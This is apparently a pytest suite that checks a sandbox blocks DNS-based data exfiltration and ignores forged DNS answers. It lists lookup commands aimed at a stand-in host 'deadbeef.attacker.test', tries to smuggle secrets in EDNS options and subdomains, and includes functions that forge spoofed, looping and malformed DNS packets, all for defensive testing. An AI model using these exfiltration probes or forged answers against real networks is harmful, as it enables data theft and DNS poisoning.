"""Names that are refused never leave, nor does anything of a program's question."""

import re
import struct

import pytest
from conftest import at_best
from internet import address_of
from names import GET  # noqa: F401

pytestmark = pytest.mark.cell(names=True)

REFUSED_LOOKUPS = [
    "dig {name}",
    "dig +tcp {name}",
    "dig @8.8.8.8 {name}",
    "dig @8.8.8.8 +tcp {name}",
    "dig @1.1.1.1 TXT {name}",
    "dig @9.9.9.9 -p 53 ANY {name}",
    "getent hosts {name}",
    "curl -sS -m 3 https://{name}",
    "python3 -c 'import socket; socket.gethostbyname(\"{name}\")'",
    'node -e \'require("dns").lookup("{name}", e => process.exit(e ? 1 : 0))\'',
    "git ls-remote https://{name}/x.git",
]


def test_refused_names_never_leave_the_container(shell, dns, sinks, wire, wall):
    name = "deadbeef.attacker.test"
    dns.add(name, "45.12.0.1")
    script = "\n".join(f'timeout 5 {c.format(name=name)}; echo "# $?"' for c in REFUSED_LOOKUPS)

    def slow():
        done = shell(script).ok()
        statuses = [line for line in done.lines() if line.startswith("# ")]
        assert len(statuses) == len(REFUSED_LOOKUPS)
        hung = [c for c, status in zip(REFUSED_LOOKUPS, statuses) if status == "# 124"]
        # In the cell who connects to a server elsewhere waits for some seconds.
        return len([c for c in hung if wall == "nft" or "@" not in c])

    at_best(slow, 1)
    assert dns.asked("attacker.test") == []
    assert not wire.carried(b"deadbeef")
    assert sinks.seen() == []


@pytest.mark.nft  # the cell starts on no such network (test_cell_attacks.py)
def test_on_a_user_defined_network_neither(shell, dns, sinks, network):
    name = "deadbeef.attacker.test"
    script = "\n".join(f"timeout 5 {c.format(name=name)}" for c in REFUSED_LOOKUPS) + "\ntrue"
    shell(script, network=network()).ok()
    assert dns.asked("attacker.test") == []
    assert not sinks.carried(b"deadbeef")
    assert sinks.seen() == []


def test_nothing_of_the_clients_question_travels(shell, dns, wire, by):
    """Letter case, EDNS options and trailing bytes could carry secrets under an allowed name."""
    shell(
        f"dig {by} +nocookie +ednsopt=65001:736563726574 ApI.oPeNaI.CoM;"
        f"dig {by} +subnet=1.2.3.4 api.openai.com"
    ).ok()
    assert not wire.carried(b"secret")
    assert not wire.carried(b"\3ApI\6oPeNaI\3CoM")
    for query in dns.asked("api.openai.com"):
        assert len(query.wire) <= 12 + 16 + 4 + 11, query


@pytest.mark.parametrize("kind", ["TXT", "ANY", "HTTPS", "SVCB", "NULL", "MX", "TYPE65400"])
def test_other_questions_about_allowed_names_are_empty(shell, dns, kind, by):
    done = shell(f"dig {by} +noall +comments +answer api.openai.com {kind}").ok()
    assert "ANSWER: 0" in done.out and "status: NOERROR" in done.out, done
    assert {q.type for q in dns.asked("api.openai.com")} <= {"A", "AAAA"}


def test_data_below_an_allowed_name_stays_inside(shell, dns, wire, by):
    shell(f"dig {by} TXT secret-data.api.openai.com; dig {by} secret-data.api.openai.com; true").ok()
    assert not wire.carried(b"secret-data")


def test_a_refusal_says_why(shell, by):
    done = shell(f"dig {by} +ednsopt=8:00 example.com").ok()
    assert "NXDOMAIN" in done.out
    assert re.search(r"EDE: 15.*example\.com", done.out), done


def answer_for_another_name(query, packet):
    import dns.message
    import dns.rrset

    forged = dns.message.from_wire(packet)
    forged.answer.append(dns.rrset.from_text("other.test.", 60, "IN", "A", "45.13.0.66"))
    forged.additional.append(dns.rrset.from_text("allowed.test.", 60, "IN", "A", "45.13.0.66"))
    return [forged.to_wire()]


def wrong_id(_, packet):
    evil = packet.replace(bytes([45]), bytes([46]))
    return [struct.pack("!H", struct.unpack_from("!H", packet)[0] ^ 1) + evil[2:], packet]


def not_an_answer(query, packet):
    return [query.to_wire(), packet]


def rubbish(_, packet):
    return [b"", b"\0", packet[:11], packet[:2] + b"\xff" * 60, packet[:20], packet]


def pointer_loop(_, packet):
    return [packet[:12] + b"\xc0\x0c" + packet[14:], packet]


@pytest.mark.parametrize(
    "maker", [answer_for_another_name, wrong_id, not_an_answer, rubbish, pointer_loop]
)
def test_a_hostile_answer_is_not_believed(shell, dns, sinks, maker, wall):
    """What comes before the honest answer is dropped, and the honest one still counts."""
    dns.forge("allowed.test", maker)
    patience, ends = (30, 35) if wall == "nft" else (3, 28)  # in the cell nobody answers
    script = f"{GET} https://allowed.test; {GET} -m {patience} -k https://45.13.0.66"
    shell(script, allow="allowed.test").ok(ends)
    assert sinks.addresses() == {address_of("allowed.test")}
